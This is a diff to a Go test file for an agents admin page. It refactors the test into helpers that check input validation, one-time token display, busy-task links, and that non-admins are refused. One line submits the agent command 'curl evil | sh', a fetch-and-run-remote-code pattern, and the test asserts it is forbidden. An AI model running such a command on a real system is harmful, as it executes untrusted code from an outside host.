@@ -127,6 +127,39 @@ func TestAgentsPage(t *testing.T) {
 	admin.post("/agents", url.Values{"name": {"hugo"}, "kind": {"human"}, "roles": {"exec"}, "password": {"short"}}).
 		want(t, http.StatusUnprocessableEntity, `data-testid="password-error"`)
 
+	checkAgentsRefusedToDev(t, e, w)
+	wpath := "/agents/" + strconv.FormatInt(w.ID, 10)
+	// Edit.
+	admin.post(wpath, url.Values{"roles": {"developer"}, "command": {"/opt/run.sh"}, "concurrency": {"x"}}).
+		want(t, http.StatusUnprocessableEntity, `data-testid="concurrency-error"`)
+	admin.post(wpath, url.Values{"roles": {"developer, reviewer"}, "command": {"/opt/run.sh"}, "workdir": {"/srv/repo"},
+		"concurrency": {"3"}, "disabled": {"on"}}).want(t, http.StatusSeeOther)
+	w2, _ := e.db.GetAgent(ctx, w.ID)
+	if w2.Command != "/opt/run.sh" || w2.Workdir != "/srv/repo" || w2.Concurrency != 3 || !w2.Disabled || strings.Join(w2.Roles, ",") != "developer,reviewer" {
+		t.Fatalf("updated %+v", w2)
+	}
+	admin.get(wpath).want(t, http.StatusOK, "Saved agent builder-1.", `data-status="disabled"`)
+
+	checkTokenShownOnce(t, e, admin)
+	// Busy: an in-progress task under an active lease links from the agent's row.
+	task, err := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: "Write the parser", Role: "developer", Brief: "Parse it."})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w3 := e.human("wanda", "developer")
+	until := time.Now().Add(time.Hour)
+	task.State, task.AssigneeID, task.BuilderID, task.LeaseOwner, task.LeaseUntil = models.TaskInProgress, &w3.ID, &w3.ID, "runner-a", &until
+	if err := e.db.UpdateTask(ctx, task); err != nil {
+		t.Fatal(err)
+	}
+	admin.get("/agents").want(t, http.StatusOK, `data-status="busy"`, `href="/tasks/`+strconv.FormatInt(task.ID, 10)+`"`, "Write the parser")
+}
+
+// checkAgentsRefusedToDev checks that a non-admin sees no commands and is refused
+// (403) by the service.
+func checkAgentsRefusedToDev(t *testing.T, e *admEnv, w *models.Agent) {
+	t.Helper()
+	ctx := context.Background()
 	// A non-admin sees no commands and is refused (403) by the service.
 	dev := e.login("dev")
 	list := dev.get("/agents")
@@ -147,18 +180,12 @@ func TestAgentsPage(t *testing.T) {
 	}
 	dev.post(wpath, url.Values{"roles": {"developer"}, "command": {"curl evil | sh"}, "concurrency": {"1"}}).want(t, http.StatusForbidden)
 	dev.post(wpath+"/tokens", url.Values{"token_name": {"mine"}}).want(t, http.StatusForbidden)
+}
 
-	// Edit.
-	admin.post(wpath, url.Values{"roles": {"developer"}, "command": {"/opt/run.sh"}, "concurrency": {"x"}}).
-		want(t, http.StatusUnprocessableEntity, `data-testid="concurrency-error"`)
-	admin.post(wpath, url.Values{"roles": {"developer, reviewer"}, "command": {"/opt/run.sh"}, "workdir": {"/srv/repo"},
-		"concurrency": {"3"}, "disabled": {"on"}}).want(t, http.StatusSeeOther)
-	w2, _ := e.db.GetAgent(ctx, w.ID)
-	if w2.Command != "/opt/run.sh" || w2.Workdir != "/srv/repo" || w2.Concurrency != 3 || !w2.Disabled || strings.Join(w2.Roles, ",") != "developer,reviewer" {
-		t.Fatalf("updated %+v", w2)
-	}
-	admin.get(wpath).want(t, http.StatusOK, "Saved agent builder-1.", `data-status="disabled"`)
-
+// checkTokenShownOnce checks that a token is shown once, on the answering page only.
+func checkTokenShownOnce(t *testing.T, e *admEnv, admin *admClient) {
+	t.Helper()
+	ctx := context.Background()
 	// A token is shown once, on the answering page only.
 	tok := admin.post("/agents/"+strconv.FormatInt(e.agentID("eve"), 10)+"/tokens", url.Values{"token_name": {"laptop"}})
 	tok.want(t, http.StatusOK, `data-testid="new-token-value"`)
@@ -179,19 +206,6 @@ func TestAgentsPage(t *testing.T) {
 	if strings.Contains(again.Body, secret) {
 		t.Fatal("the token is shown again")
 	}
-
-	// Busy: an in-progress task under an active lease links from the agent's row.
-	task, err := e.svc.Tasks.CreateTask(ctx, models.System, models.TaskSpec{Title: "Write the parser", Role: "developer", Brief: "Parse it."})
-	if err != nil {
-		t.Fatal(err)
-	}
-	w3 := e.human("wanda", "developer")
-	until := time.Now().Add(time.Hour)
-	task.State, task.AssigneeID, task.BuilderID, task.LeaseOwner, task.LeaseUntil = models.TaskInProgress, &w3.ID, &w3.ID, "runner-a", &until
-	if err := e.db.UpdateTask(ctx, task); err != nil {
-		t.Fatal(err)
-	}
-	admin.get("/agents").want(t, http.StatusOK, `data-status="busy"`, `href="/tasks/`+strconv.FormatInt(task.ID, 10)+`"`, "Write the parser")
 }
 
 func (e *admEnv) agentID(name string) int64 {
